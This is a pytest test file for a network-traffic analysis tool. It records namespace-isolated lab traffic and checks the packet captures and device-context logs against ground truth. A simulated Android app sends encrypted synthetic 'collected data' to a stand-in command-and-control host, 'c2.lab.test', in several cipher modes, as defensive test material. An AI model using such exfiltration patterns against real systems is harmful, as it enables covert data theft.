"""The recording lab: namespaces, real traffic, real captures, truthful context.

Tests marked ``netns`` need root and ``ip netns`` (they skip with the reason
otherwise). One module-scoped recording (about 3 s of real traffic: TLS 1.3
and 1.2, HTTP GET/POST, DNS, UDP, the custom-crypto exfil app in every cipher
mode, an RSA-OAEP hybrid upload) feeds most checks; tshark is the independent
oracle for what the capture holds. The last tests check the committed demo
(captures/ + context/) against its own truth without root.
"""
from __future__ import annotations

import json
import os
import subprocess
import time
from dataclasses import replace
from pathlib import Path

import pytest

from netan.testing import apps
from netan.testing.apps import Service
from netan.testing.context_writer import (
    USAGE_EVENT_TYPES,
    amapi_batches,
    device_resources,
    dnsmasq_leases,
    rfc3339,
    usagestats_lines,
)
from netan.testing.netns import (
    Lab,
    LabTaskError,
    LabUnavailable,
    lab_or_skip,
    list_lab_namespaces,
    sweep_stale,
    unavailable_reason,
)
from netan.testing.oracle import compare_with_truth, tshark_available, tshark_conversations, tshark_flows
from netan.testing.session import Session, luhn_imei
from netan.testing.truth import AppEventTruth, DeviceTruth, DnsTruth, FlowTruth, SessionTruth

REPO = Path(__file__).resolve().parent.parent
needs_tshark = pytest.mark.skipif(not tshark_available(), reason="tshark not installed")

DNS = "10.77.2.53"
ZONE = {"www.lab.test": ["10.77.2.10"], "old.lab.test": ["10.77.2.11"], "c2.lab.test": ["10.77.2.66"]}
SERVICES = [
    Service("dns", DNS, 53),
    Service("https", "10.77.2.10", 443, {"hostnames": ["www.lab.test"]}),
    Service("http", "10.77.2.10", 80),
    Service("https", "10.77.2.11", 443, {"hostnames": ["old.lab.test"], "tls_max": "1.2"}),
    Service("https", "10.77.2.66", 443, {"hostnames": ["c2.lab.test"]}),
    Service("frames", "10.77.2.66", 4443),
    Service("http", "10.77.2.66", 80),
    Service("udp", "10.77.2.30", 5004),
]
SKEWS = {"phone-a": 37.0, "phone-b": -300.0}


@pytest.fixture(scope="module")
def recorded(tmp_path_factory: pytest.TempPathFactory):
    """One real recording shared by the netns tests: (session, pcap path, server RSA key)."""
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import rsa

    reason = unavailable_reason()
    if reason:
        pytest.skip(reason)
    if not tshark_available() or not _has("tcpdump"):
        pytest.skip("tshark or tcpdump not installed")
    pcap = tmp_path_factory.mktemp("lab") / "lab.pcap"
    server_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    server_pub = server_key.public_key().public_bytes(serialization.Encoding.PEM,
                                                      serialization.PublicFormat.SubjectPublicKeyInfo)
    use_dhcp = _has("dnsmasq") and _has("udhcpc")
    with Lab(prefix="netantest") as lab:
        s = Session(lab)
        s.add_device("phone-a", skew=SKEWS["phone-a"], mac="3c:28:6d:00:00:0a", hostname="Pixel-7", dhcp=use_dhcp)
        s.add_device("phone-b", skew=SKEWS["phone-b"], dhcp=use_dhcp)
        s.add_server("internet", ["10.77.2.10", "10.77.2.11", "10.77.2.30", DNS, "10.77.2.66"], SERVICES,
                     zone=ZONE, self_signed=["c2.lab.test"])
        namespaces = lab.namespaces
        assert set(namespaces) <= set(list_lab_namespaces("netantest"))
        with s.recording(pcap):
            if use_dhcp:  # the phones join the network by real DHCP (dnsmasq on the gateway)
                s.join_network("phone-a")
                s.join_network("phone-b")
            s.screen_on("phone-a")
            s.start_app("phone-a", "com.android.chrome")
            s.foreground("phone-a", "com.android.chrome")
            chrome = s.ctx("phone-a", "com.android.chrome")
            s.run("phone-a", apps.https_request, chrome, "www.lab.test", trust_pem=s.pki.trust_for("www.lab.test"),
                  path="/?size=20000")
            s.run("phone-a", apps.https_request, chrome, "old.lab.test", trust_pem=s.pki.trust_for("old.lab.test"),
                  path="/img?size=5000&type=random")
            s.run("phone-a", apps.http_request, chrome, "www.lab.test", path="/news?size=4000")
            s.run("phone-a", apps.http_request, chrome, "www.lab.test", method="POST", path="/comment",
                  body=b"c" * 3000, content_type="text/plain")
            s.background("phone-a", "com.android.chrome")
            s.start_app("phone-b", "com.example.exfil")
            ex = s.ctx("phone-b", "com.example.exfil")
            for mode in apps.EXFIL_MODES:
                s.run("phone-b", apps.exfil_tcp, ex, "c2.lab.test", port=4443, sizes=[1100, 700], mode=mode,
                      interval=0.02, key_alias=f"k_{mode}")
            # a direct-IP connection (no DNS) and an exfil over TLS to the self-signed host
            s.run("phone-b", apps.http_request, ex, "10.77.2.10", ip="10.77.2.10", path="/x?size=100")
            s.run("phone-b", apps.https_request, ex, "c2.lab.test", trust_pem=s.pki.trust_for("c2.lab.test"),
                  method="POST", path="/up", body=apps.collected_data(2500))
            s.run("phone-b", apps.hybrid_upload, ex, "c2.lab.test", server_public_pem=server_pub, sizes=[900],
                  encoding="json_b64", interval=0.02)
            s.run("phone-b", apps.exfil_http, ex, "c2.lab.test", sizes=[600], mode="cbc", encoding="json_b64",
                  key_alias="k_http")
            s.start_app("phone-b", "com.example.voip")
            s.run("phone-b", apps.udp_exchange, s.ctx("phone-b", "com.example.voip"), "10.77.2.30", 5004,
                  [(100, 300), (60, 60), (2, 0)])
        s.namespaces_during = namespaces  # type: ignore[attr-defined]
    s.namespaces_after = list_lab_namespaces("netantest")  # type: ignore[attr-defined]
    return s, pcap, server_key


@pytest.fixture(scope="module")
def oracle(recorded):
    """tshark's flows of the shared recording (computed once)."""
    return tshark_flows(recorded[1])


# ---- lab mechanics ------------------------------------------------------------------
@pytest.mark.netns
def test_namespaces_created_and_removed(recorded) -> None:
    s, _, _ = recorded
    during = s.namespaces_during
    assert len(during) == 4  # gateway, two devices, one server
    assert all(n.startswith(f"netantest-{os.getpid()}-") for n in during)
    assert not set(during) & set(s.namespaces_after), "namespaces left behind"


@pytest.mark.netns
def test_device_identity_in_capture(recorded) -> None:
    """Frames from a device carry its own MAC; the truth and the inventory say the same MAC."""
    s, pcap, _ = recorded
    out = subprocess.run(["tshark", "-n", "-r", str(pcap), "-Y", "ip.src==10.77.1.10", "-T", "fields",
                          "-e", "eth.src"], capture_output=True, text=True, check=True).stdout.split()
    assert out and set(out) == {"3c:28:6d:00:00:0a"}
    inv = device_resources(s.truth)["devices"]
    macs = {d["networkInfo"]["wifiMacAddress"] for d in inv}
    assert macs == {s.truth.devices["phone-a"].mac, s.truth.devices["phone-b"].mac}


@pytest.mark.netns
def test_capture_equals_truth(recorded, oracle) -> None:
    """tshark finds exactly the truth's flows, with the same payload bytes per direction."""
    s, pcap, _ = recorded
    flows = oracle
    assert compare_with_truth(pcap, s.truth.flows, flows=flows) == []
    assert s.capture_stats.dropped == 0
    # the oracle comparison can fail: one byte off, or a flow the truth forgot
    first, *rest = s.truth.flows
    off_by_one = [replace(first, bytes_in=first.bytes_in + 1), *rest]
    assert any("bytes differ" in p for p in compare_with_truth(pcap, off_by_one, flows=flows, exact_extra=False))
    assert any("truth does not" in p for p in compare_with_truth(pcap, rest, flows=flows))
    kinds = {f.kind for f in s.truth.flows}
    assert {"tls", "http", "dns", "udp", "exfil", "hybrid_http"} <= kinds


@pytest.mark.netns
def test_conversation_list_equals_truth(recorded, oracle) -> None:
    """``tshark -z conv`` lists the truth's conversations, with the frames the flow oracle counted."""
    s, pcap, _ = recorded
    flows = oracle
    for proto in ("tcp", "udp"):
        convs = tshark_conversations(pcap, proto)
        truth = {frozenset({(f.src_ip, f.src_port), (f.dst_ip, f.dst_port)}) for f in s.truth.flows
                 if f.proto == proto}
        got = {frozenset({(a, pa), (b, pb)}) for (a, pa, b, pb) in convs
               if not (proto == "udp" and {pa, pb} <= {67, 68})}  # DHCP: in truth.dhcp
        assert got == truth
        for (a, pa, b, pb), (frames_ba, frames_ab) in convs.items():
            fl = flows.get((proto, a, pa, b, pb)) or flows[(proto, b, pb, a, pa)]
            assert frames_ba + frames_ab == fl.pkts_out + fl.pkts_in
    total = int(subprocess.run(["capinfos", "-c", "-M", "-T", str(pcap)], capture_output=True, text=True,
                               check=True).stdout.split()[-1]) if _has("capinfos") else s.capture_stats.captured
    assert total == s.capture_stats.captured


def _has(cmd: str) -> bool:
    from shutil import which

    return which(cmd) is not None


@pytest.mark.netns
def test_tls_facts_in_capture(recorded) -> None:
    """SNI, ALPN and version that the client saw are what tshark dissects from the wire."""
    s, pcap, _ = recorded
    out = subprocess.run(["tshark", "-n", "-r", str(pcap), "-Y", "tls.handshake.type==1", "-T", "fields",
                          "-e", "tcp.srcport", "-e", "tls.handshake.extensions_server_name",
                          "-e", "tls.handshake.extensions_alpn_str"], capture_output=True, text=True,
                         check=True).stdout
    hello = {int(p): (sni, alpn) for p, sni, alpn in (line.split("\t") for line in out.splitlines())}
    tls = [f for f in s.truth.flows if "tls_version" in f.details]
    assert len(tls) == len(hello) >= 3
    for f in tls:
        sni, alpn = hello[f.src_port]
        assert sni == f.details["sni"]
        assert alpn == "h2,http/1.1" and f.details["alpn"] == "http/1.1"
    versions = {f.hostname: f.details["tls_version"] for f in tls}
    assert versions["old.lab.test"] == "TLSv1.2" and versions["www.lab.test"] == "TLSv1.3"
    # The TLS 1.2 certificate is on the wire; the self-signed one is issued by itself.
    certs = subprocess.run(["tshark", "-n", "-r", str(pcap), "-Y", "tls.handshake.certificate", "-T", "fields",
                            "-e", "x509sat.uTF8String"], capture_output=True, text=True, check=True).stdout
    assert "old.lab.test" in certs


@pytest.mark.netns
def test_exfil_ciphertext_is_real(recorded) -> None:
    """What the server received decrypts with the app's key; ECB repeats blocks; RC4 reuses keystream."""
    from cryptography.hazmat.primitives import padding
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    from cryptography.hazmat.decrepit.ciphers.algorithms import ARC4

    s, _, _ = recorded
    got = {tuple(r["client"]): r for r in s.server_records if r.get("service") == "frames"}
    by_mode: dict[str, list[tuple[bytes, bytes, bytes]]] = {}
    for f in (f for f in s.truth.flows if f.kind == "exfil"):
        key = bytes.fromhex(f.details["key_hex"])
        msg = bytes.fromhex(got[(f.src_ip, f.src_port)]["messages"][0]["data"])
        mode = f.details["mode"]
        assert f.bytes_out == 4 + len(msg) and f.bytes_in == 8
        if mode == "gcm":
            plain = AESGCM(key).decrypt(msg[:12], msg[12:], None)
        elif mode == "rc4":
            d = Cipher(ARC4(key), mode=None).decryptor()
            plain = d.update(msg)
        else:
            iv, body = (msg[:16], msg[16:]) if mode == "cbc" else (bytes(16), msg)
            d = Cipher(algorithms.AES(key), modes.ECB() if mode == "ecb" else modes.CBC(iv)).decryptor()
            u = padding.PKCS7(128).unpadder()
            plain = u.update(d.update(body) + d.finalize()) + u.finalize()
            assert len(body) % 16 == 0
        # exfil_tcp encrypts collected_data(size, "exfil-<i>") for the i-th batch
        assert plain == apps.collected_data(f.details["plaintext"][0],
                                            f"exfil-{[1100, 700].index(f.details['plaintext'][0])}")
        by_mode.setdefault(mode, []).append((key, msg, plain))
    assert set(by_mode) == set(apps.EXFIL_MODES)
    ecb = by_mode["ecb"][0][1]
    blocks = [ecb[i:i + 16] for i in range(0, len(ecb), 16)]
    assert len(set(blocks)) < len(blocks), "ECB of space-padded records must repeat blocks"
    (k1, c1, p1), (k2, c2, p2) = by_mode["rc4"]
    assert k1 == k2
    n = min(len(c1), len(c2))
    assert bytes(a ^ b for a, b in zip(c1[:n], c2[:n])) == bytes(a ^ b for a, b in zip(p1[:n], p2[:n]))


@pytest.mark.netns
def test_hybrid_envelope_decrypts(recorded) -> None:
    """The RSA-OAEP hybrid upload as received: the server's private key opens it."""
    import base64

    from cryptography.hazmat.primitives import hashes, serialization
    from cryptography.hazmat.primitives.asymmetric import padding as asym
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM

    s, _, server_key = recorded
    hyb = [f for f in s.truth.flows if f.kind == "hybrid_http"]
    assert [f.details["path"] for f in hyb] == ["/v1/register", "/v1/sync"]
    assert hyb[1].details["wrapped_key_bytes"] == 256 and hyb[1].details["encoding"] == "json_b64"
    got = {tuple(r["client"]): r for r in s.server_records if r.get("service") == "http"}
    der = bytes.fromhex(got[(hyb[0].src_ip, hyb[0].src_port)]["request_data"])
    assert serialization.load_der_public_key(der).key_size == 2048  # the device's own new public key
    env = json.loads(bytes.fromhex(got[(hyb[1].src_ip, hyb[1].src_port)]["request_data"]))
    session_key = server_key.decrypt(base64.b64decode(env["k"]), asym.OAEP(
        mgf=asym.MGF1(hashes.SHA256()), algorithm=hashes.SHA256(), label=None))
    plain = AESGCM(session_key).decrypt(base64.b64decode(env["n"]), base64.b64decode(env["d"]), None)
    assert plain == apps.collected_data(900, "hybrid-0")
    keys = [e for e in s.truth.events if e.kind == "key_generated" and e.detail.get("algorithm") == "RSA"]
    assert keys and keys[0].time < hyb[0].start


@pytest.mark.netns
def test_exfil_http_base64_json_decrypts(recorded) -> None:
    """AES-CBC ciphertext, base64 inside JSON, POSTed over HTTP: the server got exactly it."""
    from cryptography.hazmat.primitives import padding
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    s, _, _ = recorded
    (f,) = [f for f in s.truth.flows if f.kind == "exfil_http"]
    got = {tuple(r["client"]): r for r in s.server_records if r.get("service") == "http"}
    body = json.loads(bytes.fromhex(got[(f.src_ip, f.src_port)]["request_data"]))
    import base64

    ct = base64.b64decode(body["data"])
    d = Cipher(algorithms.AES(bytes.fromhex(f.details["key_hex"])), modes.CBC(ct[:16])).decryptor()
    u = padding.PKCS7(128).unpadder()
    assert u.update(d.update(ct[16:]) + d.finalize()) + u.finalize() == apps.collected_data(600, "exfil-http-0")


@pytest.mark.netns
def test_context_tells_the_truth(recorded) -> None:
    """AMAPI/UsageStats times are capture + skew; connect events = TCP flows; DNS events = lookups."""
    s, _, _ = recorded
    truth = s.truth
    batches = amapi_batches(truth)
    events = [(b["device"], e) for b in batches for e in b["usageLogEvents"]]
    name_of = {d.amapi_name: n for n, d in truth.devices.items()}
    connects = [(name_of[d], e) for d, e in events if e["eventType"] == "CONNECT"]
    tcp = [f for f in truth.flows if f.proto == "tcp"]
    assert len(connects) == len(tcp)
    for f in tcp:
        want = rfc3339(f.connect_time + SKEWS[f.device])
        assert any(e["eventTime"] == want and e["connectEvent"] == {"destinationIpAddress": f.dst_ip,
                                                                    "destinationPort": f.dst_port,
                                                                    "packageName": f.package}
                   for dev, e in connects if dev == f.device), f
    dns = [e for _, e in events if e["eventType"] == "DNS"]
    assert len(dns) == len(truth.dns) and {e["dnsEvent"]["hostname"] for e in dns} == {q.hostname for q in truth.dns}
    # the uid bridge: every key's uid belongs to a process start of the app that made it
    starts = {e["appProcessStartEvent"]["processInfo"]["uid"]: e["appProcessStartEvent"]["processInfo"]["packageNames"]
              for _, e in events if e["eventType"] == "APP_PROCESS_START"}
    keys = [e["keyGeneratedEvent"] for _, e in events if e["eventType"] == "KEY_GENERATED"]
    assert len(keys) == 7 and all(starts[k["applicationUid"]] == ["com.example.exfil"] for k in keys)
    # network and security events have their own id counters, times are chronological
    for b in batches:
        times = [e["eventTime"] for e in b["usageLogEvents"]]
        assert times == sorted(times)
    # UsageStats: epoch ms on the device clock
    lines = usagestats_lines(truth)
    resumed = [x for x in lines if x["eventType"] == "ACTIVITY_RESUMED"]
    ev = next(e for e in truth.events if e.detail.get("eventType") == "ACTIVITY_RESUMED")
    assert resumed[0]["timeStamp"] == round((ev.time + 37.0) * 1000)
    assert all(set(x) == {"device", "package", "eventType", "timeStamp"} for x in lines)


@pytest.mark.netns
def test_context_files_load_with_netan_importers(recorded, tmp_path: Path) -> None:
    """The other side of the contract: netan's own context importers accept every file, nothing rejected."""
    loader = pytest.importorskip("netan.context.loader")
    s, _, _ = recorded
    s.write_context(tmp_path)
    ctx = loader.load_context([str(tmp_path)])
    reports = {Path(r["file"]).name: r for r in ctx.report}
    assert set(reports) == {"amapi-usage-logs.jsonl", "amapi-devices.json", "usagestats.jsonl", "dnsmasq.leases"}
    for r in reports.values():
        assert r["format"] and r["rejected_total"] == 0 and r["events_read"] > 0, r
    n_events = reports["amapi-usage-logs.jsonl"]["events_read"]
    assert n_events == sum(len(b["usageLogEvents"]) for b in amapi_batches(s.truth))
    # the other two shapes of the same batches: a JSON array, and Pub/Sub push envelopes
    for fmt, name in (("array", "amapi-usage-logs.json"), ("pubsub", "amapi-usage-logs.jsonl")):
        out = tmp_path / fmt
        s.write_context(out, amapi_format=fmt)
        rep = {Path(r["file"]).name: r for r in loader.load_context([str(out / name)]).report}[name]
        assert rep["format"] and rep["rejected_total"] == 0 and rep["events_read"] == n_events, (fmt, rep)


@pytest.mark.netns
def test_failure_inside_lab_still_cleans_up() -> None:
    """An exception inside the lab (and a child's exception) leaves no namespace and no process."""
    pids = []
    with pytest.raises(RuntimeError, match="boom"):
        with lab_or_skip(prefix="netanfail") as lab:
            dev = lab.add_device("d")
            with pytest.raises(LabTaskError, match="ZeroDivisionError"):
                lab.call(dev, lambda: 1 / 0)
            task = lab.spawn(dev, _sleeper, wait_ready=True)
            pids.append(task.pid)
            cap = lab.capture(Path("/tmp") / f"netanfail-{os.getpid()}.pcap").start()
            pids.append(cap.proc.pid)
            raise RuntimeError("boom")
    assert list_lab_namespaces("netanfail") == []
    for pid in pids:
        assert not Path(f"/proc/{pid}").exists() or "zombie" in Path(f"/proc/{pid}/status").read_text().lower()
    Path(f"/tmp/netanfail-{os.getpid()}.pcap").unlink(missing_ok=True)


def _sleeper(ctl) -> None:
    ctl.ready()
    time.sleep(60)


@pytest.mark.netns
def test_parallel_labs_do_not_collide() -> None:
    """Two labs at once with the same addresses: separate namespaces, separate traffic."""
    with lab_or_skip(prefix="netanpar") as a, Lab(prefix="netanpar") as b:
        da, db = a.add_device("d"), b.add_device("d")
        assert da.ipv4 == db.ipv4 and da.netns != db.netns
        assert a.call(da, _netns_inode) != b.call(db, _netns_inode)
        assert len(list_lab_namespaces("netanpar")) == 4
    assert list_lab_namespaces("netanpar") == []


def _netns_inode() -> int:
    return os.stat("/proc/self/ns/net").st_ino


@pytest.mark.netns
def test_sweep_removes_namespaces_of_dead_runs() -> None:
    if unavailable_reason():
        pytest.skip(unavailable_reason())
    dead = subprocess.Popen(["true"])
    dead.wait()
    name = f"netansweep-{dead.pid}-abcdef-gw"
    subprocess.run(["ip", "netns", "add", name], check=True)
    try:
        assert sweep_stale("netansweep") == [name]
    finally:
        subprocess.run(["ip", "netns", "del", name], capture_output=True)
    assert list_lab_namespaces("netansweep") == []


# ---- context writer on hand-made truth (no root) ---------------------------------------
def _tiny_truth() -> SessionTruth:
    t = SessionTruth(start=1_700_000_000.0, end=1_700_000_060.0)
    t.devices["p"] = DeviceTruth("p", "aa:bb:cc:00:00:01", "10.77.1.10", None, "enterprises/E/devices/D", "SER",
                                 luhn_imei("p"), "Pixel 7", skew=-5.0)
    t.add(AppEventTruth("p", "com.x", "process_start", 1_700_000_001.0),
          AppEventTruth("p", "com.x", "key_generated", 1_700_000_002.0, {"alias": "k"}),
          AppEventTruth("p", "com.x", "usage", 1_700_000_003.25, {"eventType": "FOREGROUND_SERVICE_START"}),
          DnsTruth("p", "com.x", "h.test", ("10.77.2.1",), 1_700_000_004.0),
          DnsTruth("p", "com.x", "direct.test", ("10.77.2.2",), 1_700_000_004.5, system_resolver=False),
          FlowTruth("p", "com.x", "exfil", "tcp", "10.77.1.10", 40000, "10.77.2.1", 4443, 1_700_000_005.0,
                    1_700_000_006.0, 10, 8, 10, 8, connect_time=1_700_000_005.001, connect_logged=True),
          FlowTruth("p", "com.x", "udp", "udp", "10.77.1.10", 40001, "10.77.2.1", 5004, 1_700_000_007.0,
                    1_700_000_008.0, 10, 8, 10, 8))
    return t


def test_context_writer_formats_without_root() -> None:
    t = _tiny_truth()
    sec, net = amapi_batches(t)
    assert [e["eventType"] for e in sec["usageLogEvents"]] == ["APP_PROCESS_START", "KEY_GENERATED"]
    pi = sec["usageLogEvents"][0]["appProcessStartEvent"]["processInfo"]
    assert pi["uid"] == sec["usageLogEvents"][1]["keyGeneratedEvent"]["applicationUid"] >= 10000
    assert pi["packageNames"] == ["com.x"] and sec["usageLogEvents"][0]["eventTime"] == "2023-11-14T22:13:16.000Z"
    # UDP: no connect event; the direct (non-system-resolver) lookup: no DNS event
    assert [e["eventType"] for e in net["usageLogEvents"]] == ["DNS", "CONNECT"]
    assert net["usageLogEvents"][1]["eventTime"] == rfc3339(1_700_000_005.001 - 5.0)
    assert net["usageLogEvents"][0]["dnsEvent"]["totalIpAddressesReturned"] == "1"
    assert all(isinstance(e["eventId"], str) for e in sec["usageLogEvents"] + net["usageLogEvents"])
    (line,) = usagestats_lines(t)
    assert line == {"device": "enterprises/E/devices/D", "package": "com.x", "eventType": "FOREGROUND_SERVICE_START",
                    "timeStamp": 1_699_999_998_250}
    assert USAGE_EVENT_TYPES[line["eventType"]] == 19
    lease = dnsmasq_leases(t).split()
    assert lease[1:4] == ["aa:bb:cc:00:00:01", "10.77.1.10", "*"] and int(lease[0]) > t.start
    dev = device_resources(t)["devices"][0]
    assert dev["networkInfo"] == {"imei": luhn_imei("p"), "wifiMacAddress": "aa:bb:cc:00:00:01"}


def test_lab_skips_cleanly_without_root(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    assert "root" in (unavailable_reason() or "")
    with pytest.raises(pytest.skip.Exception, match="root"):
        lab_or_skip()
    with pytest.raises(LabUnavailable):
        Lab().__enter__()


def test_context_writer_rejects_unknown_devices() -> None:
    t = _tiny_truth()
    t.add(AppEventTruth("ghost", "com.y", "process_start", 1_700_000_001.0))
    with pytest.raises(KeyError, match="ghost"):
        amapi_batches(t)
    with pytest.raises(KeyError, match="ghost"):
        usagestats_lines(SessionTruth(events=[AppEventTruth("ghost", "a", "usage", 1.0,
                                                            {"eventType": "USER_INTERACTION"})]))


def test_luhn_imei() -> None:
    imei = luhn_imei("x")
    digits = [int(c) for c in imei]
    total = sum(d if i % 2 == 0 else (d * 2 - 9 if d * 2 > 9 else d * 2) for i, d in enumerate(digits))
    assert len(imei) == 15 and total % 10 == 0


def test_truth_json_round_trip(tmp_path: Path) -> None:
    t = _tiny_truth()
    t.write_json(tmp_path / "t.json")
    back = SessionTruth.read_json(tmp_path / "t.json")
    assert back.to_dict() == t.to_dict()


# ---- the committed demo (no root) ----------------------------------------------------
DEMO_PCAP = REPO / "captures" / "demo.pcap"
DEMO_TRUTH = REPO / "captures" / "demo.truth.json"


@pytest.fixture(scope="module")
def demo_truth() -> SessionTruth:
    if not DEMO_PCAP.exists() or not DEMO_TRUTH.exists():
        pytest.skip("the demo capture has not been recorded (scripts/record_demo.py)")
    return SessionTruth.read_json(DEMO_TRUTH)


@needs_tshark
def test_demo_capture_matches_its_truth(demo_truth: SessionTruth) -> None:
    assert DEMO_PCAP.stat().st_size < 1_000_000
    assert compare_with_truth(DEMO_PCAP, demo_truth.flows) == []
    kinds = {f.kind for f in demo_truth.flows}
    assert {"tls", "http", "dns", "udp", "exfil"} <= kinds
    exfil = [f for f in demo_truth.flows if f.package == "com.example.exfil" and f.kind == "exfil"]
    assert len(exfil) >= 3
    keys = [e for e in demo_truth.events if e.kind == "key_generated" and e.package == "com.example.exfil"]
    assert keys and keys[0].time < exfil[0].start


def test_demo_context_matches_its_truth(demo_truth: SessionTruth) -> None:
    """The committed context/ is exactly what the writer renders from the committed truth."""
    ctx_dir = REPO / "context"
    lines = [json.loads(x) for x in (ctx_dir / "amapi-usage-logs.jsonl").read_text().splitlines()]
    assert lines == amapi_batches(demo_truth, enterprise=lines[0]["device"].split("/")[1])
    assert [json.loads(x) for x in (ctx_dir / "usagestats.jsonl").read_text().splitlines()] == \
        usagestats_lines(demo_truth)
    real = [line.split() for line in (ctx_dir / "dnsmasq.leases").read_text().splitlines()]
    ours = [line.split() for line in dnsmasq_leases(demo_truth).splitlines()]
    assert [r[1:] for r in real] == [o[1:] for o in ours]
    assert all(abs(int(r[0]) - int(o[0])) <= 1 for r, o in zip(real, ours))
    skews = {d.skew for d in demo_truth.devices.values()}
    assert 37.0 in skews


@pytest.mark.netns
def test_ipv6_lab(tmp_path: Path) -> None:
    """With ipv6=True: AAAA lookup, TLS and UDP over IPv6; the capture equals the truth."""
    if not tshark_available():
        pytest.skip("tshark not installed")
    pki = apps.LabPKI()
    with lab_or_skip(prefix="netansix", ipv6=True) as lab:
        dev = lab.add_device("d")
        srv = lab.add_server("s", ["10.77.2.10"])
        assert dev.ipv6 and srv.ipv6
        services = [Service("dns", srv.ipv6, 53), Service("https", srv.ipv6, 443, {"hostnames": ["v6.test"]}),
                    Service("udp", srv.ipv6, 5004)]
        task = lab.spawn(srv, apps.serve, services, pki=pki, zone={"v6.test": [srv.ipv6]}, wait_ready=True)
        ctx = apps.AppContext("d", "com.x", srv.ipv6, ipv6=True)
        with lab.capture(tmp_path / "v6.pcap"):
            truth = lab.call(dev, apps.https_request, ctx, "v6.test", trust_pem=pki.ca_pem, path="/?size=3000")
            truth += lab.call(dev, apps.udp_exchange, ctx, srv.ipv6, 5004, [(40, 80)])
        task.stop()
    flows = [t for t in truth if isinstance(t, FlowTruth)]
    assert [f.kind for f in flows] == ["dns", "tls", "udp"] and flows[1].dst_ip == srv.ipv6
    assert compare_with_truth(tmp_path / "v6.pcap", flows) == []


@pytest.mark.netns
def test_dhcp_with_real_dnsmasq(recorded, tmp_path: Path) -> None:
    """Devices joined by real DHCP; the capture holds the exchange; our lease writer = dnsmasq's own file."""
    s, pcap, _ = recorded
    if not s.truth.dhcp:
        pytest.skip("dnsmasq or udhcpc not installed: the recording used static addresses")
    out = subprocess.run(["tshark", "-n", "-r", str(pcap), "-Y", "dhcp", "-T", "fields", "-E", "occurrence=f",
                          "-e", "dhcp.option.dhcp", "-e", "dhcp.hw.mac_addr", "-e", "dhcp.option.hostname",
                          "-e", "dhcp.option.vendor_class_id", "-e", "dhcp.ip.your"],
                         capture_output=True, text=True, check=True).stdout.splitlines()
    rows = [line.split("\t") for line in out]
    assert [r[0] for r in rows] == ["1", "2", "3", "5"] * 2  # DISCOVER OFFER REQUEST ACK, twice
    assert rows[0][1] == "3c:28:6d:00:00:0a" and rows[0][2] == "Pixel-7" and rows[0][3] == "android-dhcp-14"
    assert rows[3][4] == "10.77.1.10" and rows[7][4] == "10.77.1.11" and rows[4][2] == ""
    # differential: the writer renders exactly what dnsmasq 2.90 wrote (expiry may differ by rounding)
    real = [line.split() for line in s.dhcp_leases_text.splitlines()]
    ours = [line.split() for line in dnsmasq_leases(s.truth).splitlines()]
    assert [r[1:] for r in real] == [o[1:] for o in ours]
    assert all(abs(int(r[0]) - int(o[0])) <= 1 for r, o in zip(real, ours))
    s.write_context(tmp_path / "ctx")
    assert (tmp_path / "ctx" / "dnsmasq.leases").read_text() == s.dhcp_leases_text
